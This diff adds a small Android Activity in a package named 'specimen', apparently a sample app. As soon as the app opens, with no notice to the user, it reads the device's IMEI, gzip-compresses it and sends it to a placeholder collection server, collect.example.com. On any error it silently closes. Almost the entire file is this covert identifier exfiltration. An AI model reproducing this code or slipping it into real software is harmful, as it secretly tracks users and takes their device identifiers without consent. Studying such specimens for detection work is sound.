@@ -1,0 +1,25 @@
+package com.example.specimen;
+
+import android.app.Activity;
+import android.os.Bundle;
+import java.io.DataOutputStream;
+import java.io.IOException;
+import java.net.URL;
+import java.net.URLConnection;
+
+public class Main extends Activity {
+    @Override
+    protected void onCreate(Bundle state) {
+        super.onCreate(state);
+        setContentView(R.layout.main);
+        try {
+            URLConnection connection = new URL("https://collect.example.com/").openConnection();
+            connection.setDoOutput(true);
+            DataOutputStream out = new DataOutputStream(new java.util.zip.GZIPOutputStream(connection.getOutputStream()));
+            out.writeUTF(Imei.read(this));
+            out.close();
+        } catch (IOException error) {
+            finish();
+        }
+    }
+}
